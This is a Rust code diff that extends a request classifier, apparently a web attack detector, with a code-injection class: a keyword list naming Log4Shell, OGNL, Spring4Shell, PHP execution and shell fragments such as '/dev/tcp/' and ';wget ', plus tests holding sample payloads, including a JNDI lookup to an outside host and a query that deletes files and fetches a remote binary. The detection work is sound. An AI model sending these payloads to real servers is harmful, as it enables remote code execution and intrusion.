@@ -30,6 +30,68 @@ const DECODED_SQLI: &[&str] = &[
     "@@version",
 ];
 
+/// Code, command and expression injection, as it looks once percent-decoded (`+` read as a
+/// space): what a request carries when it tries to run something on the server, whatever the
+/// product or CVE. Lookup and expression languages (Log4Shell's `${jndi:`, Text4Shell's
+/// `${script:`, OGNL, FreeMarker, Java's `Runtime`), class-loader manipulation (Spring4Shell),
+/// PHP execution (`call_user_func_array`, `php://input`), shell commands chained into a
+/// parameter (`;wget `, `$(echo`, `${IFS}`, `rm -rf`) and Shellshock's function prefix.
+/// No ordinary request or browser sends these.
+const CODE_INJECTION: &[&str] = &[
+    "${jndi:",
+    "${script:",
+    "${url:",
+    "${dns:",
+    "${env:",
+    "${sys:",
+    "${lower:",
+    "${upper:",
+    "${::-",
+    "${base64:",
+    "${(#",
+    "%{(#",
+    "#_memberaccess",
+    "@java.lang.runtime@",
+    "java.lang.runtime",
+    "getruntime().exec",
+    "java.lang.processbuilder",
+    "freemarker.template.utility.execute",
+    "class.module.classloader",
+    "class.classloader",
+    "call_user_func_array",
+    "invokefunction",
+    "php://input",
+    "allow_url_include",
+    "auto_prepend_file",
+    "<?php",
+    "shell_exec(",
+    "passthru(",
+    "${ifs}",
+    "$(echo",
+    "$(wget",
+    "$(curl",
+    ";wget ",
+    "|wget ",
+    "`wget ",
+    ";curl ",
+    "|curl ",
+    ";sh ",
+    "| sh ",
+    "|sh ",
+    "/bin/sh ",
+    "/bin/bash ",
+    "rm -rf ",
+    "chmod 777 ",
+    "chmod +x ",
+    "/dev/tcp/",
+    "() { :;",
+    "() { :; };",
+];
+
+/// Traversal spellings the sec-list lacks: Tomcat's path-parameter bypass (`..;/`) and a
+/// double-encoded dot pair (raw, and as it reads after one decoding).
+const MORE_TRAVERSAL: &[&str] = &["..;/", "%252e%252e", "%2e%2e/", "%2e%2e\\"];
+
 fn words(list: &str) -> Vec<String> {
     list.lines()
         .map(str::trim)
@@ -63,6 +125,7 @@ use super::case_insensitive_matcher as automaton;
 const TRAVERSAL_BIT: u8 = 1;
 const SQLI_BIT: u8 = 2;
 const XSS_BIT: u8 = 4;
+const CODE_BIT: u8 = 8;
 
 impl Lists {
     /// The injection classes whose payloads occur in `text`.
@@ -114,10 +177,16 @@ fn lists() -> &'static Lists {
         let mut sensitive_names = foldhash::HashSet::default();
         let mut injections = Vec::new();
         let mut injection_bits = Vec::new();
+        let mut traversal = words(TRAVERSAL);
+        traversal.extend(MORE_TRAVERSAL.iter().map(|s| s.to_string()));
         for (list, bit) in [
-            (words(TRAVERSAL), TRAVERSAL_BIT),
+            (traversal, TRAVERSAL_BIT),
             (sqli, SQLI_BIT),
             (words(XSS), XSS_BIT),
+            (
+                CODE_INJECTION.iter().map(|w| w.to_string()).collect(),
+                CODE_BIT,
+            ),
         ] {
             injection_bits.extend(std::iter::repeat_n(bit, list.len()));
             injections.extend(list);
@@ -198,6 +267,7 @@ fn is_scanner(ua: &str) -> bool {
 }
 
 /// What kind of probe a request is, or `None` for an ordinary request. Checked in this order:
+/// `code-injection` (in the path, query or a user agent carrying `${` or `() {`),
 /// `scanner-agent`, `path-traversal`, `sql-injection`, `script-injection`, `backdoor`,
 /// `sensitive-file`, `admin-interface`.
 ///
@@ -209,6 +279,8 @@ fn is_scanner(ua: &str) -> bool {
 /// assert_eq!(probe_class("/api/v1/files/..%2f..%2fetc%2fpasswd", None, None), Some("path-traversal"));
 /// assert_eq!(probe_class("/api/v1/search", Some("q=%27%20OR%201%3D1--"), None), Some("sql-injection"));
 /// assert_eq!(probe_class("/", None, Some("sqlmap/1.8#stable")), Some("scanner-agent"));
+/// assert_eq!(probe_class("/", None, Some("${jndi:ldap://198.51.100.9/a}")), Some("code-injection"));
+/// assert_eq!(probe_class("/index.php", Some("s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"), None), Some("code-injection"));
 /// assert_eq!(probe_class("/api/v1/orders/17", Some("page=2"), Some("Mozilla/5.0")), None);
 /// assert_eq!(probe_class("/static/app.js", None, None), None);
 /// ```
@@ -218,9 +290,6 @@ pub fn probe_class(
     user_agent: Option<&str>,
 ) -> Option<&'static str> {
     let l = lists();
-    if user_agent.is_some_and(is_scanner) {
-        return Some("scanner-agent");
-    }
     let decoded_path = percent_decode(path);
     let decoded_query = query.map(percent_decode);
     // The decoded forms are searched only when decoding changed something.
@@ -233,6 +302,17 @@ pub fn probe_class(
     }
     if let Some(q) = decoded_query.as_deref().filter(|_| decoded_query_differs) {
         found |= l.injection_classes(q);
+    }
+    // Log4Shell and Shellshock payloads travel in headers: the user agent is searched too, for
+    // code only, when it has the opening of one.
+    if let Some(ua) = user_agent.filter(|u| u.contains("${") || u.contains("() {")) {
+        found |= l.injection_classes(ua) & CODE_BIT;
+    }
+    if found & CODE_BIT != 0 {
+        return Some("code-injection");
+    }
+    if user_agent.is_some_and(is_scanner) {
+        return Some("scanner-agent");
     }
     for (bit, class) in [
         (TRAVERSAL_BIT, "path-traversal"),
@@ -399,5 +479,75 @@ mod tests {
             Some("scanner-agent")
         );
         assert_eq!(percent_decode("%2e%2e%2F+x%zz"), "../ x%zz");
+        for path in [
+            "/tmui/login.jsp/..;/tmui/x.jsp",
+            "/unauth/%252e%252e/php/x.php",
+        ] {
+            assert_eq!(
+                probe_class(path, None, None),
+                Some("path-traversal"),
+                "{path}"
+            );
+        }
+    }
+
+    /// Payloads that try to run something, encoded as scanners send them, in the path, the
+    /// query or the user agent; and ordinary requests that merely share a word with them.
+    #[test]
+    fn code_injection_is_recognised_in_any_encoding_and_nowhere_else() {
+        let code = |path: &str, query: Option<&str>, ua: Option<&str>| {
+            probe_class(path, query, ua) == Some("code-injection")
+        };
+        // OGNL in an encoded path, a Text4Shell lookup, Spring4Shell, a chained shell command.
+        assert!(code(
+            "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%7D/",
+            None,
+            None
+        ));
+        assert!(code(
+            "/",
+            Some("search=%24%7Bscript%3Ajavascript%3Ax%7D"),
+            None
+        ));
+        assert!(code(
+            "/path/",
+            Some("class.module.classLoader.URLs%5B0%5D=0"),
+            None
+        ));
+        assert!(code(
+            "/setup.cgi",
+            Some("todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.1/m"),
+            None
+        ));
+        assert!(code(
+            "/index.php",
+            Some("login=$(echo${IFS}cHl0aG9u|base64${IFS}-d|bash)"),
+            None
+        ));
+        // Log4Shell and Shellshock in the user agent, even from a scanner.
+        assert!(code("/", None, Some("${jndi:${lower:l}dap://x.example/a}")));
+        assert!(code(
+            "/cgi-bin/status",
+            None,
+            Some("() { :; }; /bin/bash -c 'id'")
+        ));
+        assert!(code("/", None, Some("Nuclei ${jndi:ldap://x.example/a}")));
+        // Ordinary requests.
+        for (path, query, ua) in [
+            ("/api/v1/search", Some("q=curl+tutorial&sort=new"), None),
+            ("/docs/shell", Some("topic=rm%20command"), None),
+            ("/api/v1/templates", Some("body=Hello+%24%7Bname%7D"), None),
+            (
+                "/",
+                None,
+                Some("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"),
+            ),
+        ] {
+            assert_ne!(
+                probe_class(path, query, ua),
+                Some("code-injection"),
+                "{path} {query:?}"
+            );
+        }
     }
 }
